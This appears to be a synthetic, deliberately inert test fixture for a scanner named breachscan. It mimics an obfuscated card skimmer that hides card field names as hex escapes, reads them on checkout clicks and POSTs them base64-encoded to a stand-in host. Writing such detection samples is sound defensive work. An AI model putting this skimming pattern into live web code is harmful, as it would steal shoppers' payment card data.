/* synthetic test sample for breachscan: obfuscated skimmer shape - card field names as hex
 * escapes and char codes, exfiltration through XMLHttpRequest. Inert (`if (false)`). */
var _0x1a = ["\x63\x61\x72\x64\x6e\x75\x6d\x62\x65\x72", "\x63\x76\x76", "\x65\x78\x70\x69\x72\x79"];
if (false) {
  window.addEventListener('click', function (ev) {
    if (!/pay|checkout/i.test(ev.target.id)) return;
    var s = _0x1a.map(function (k) { return document.getElementsByName(k)[0].value; }).join("|");
    var x = new XMLHttpRequest(); x.open("POST", String.fromCharCode(104,116,116,112,115,58,47,47) + "collector.invalid/c"); x.send(btoa(s));
  });
}
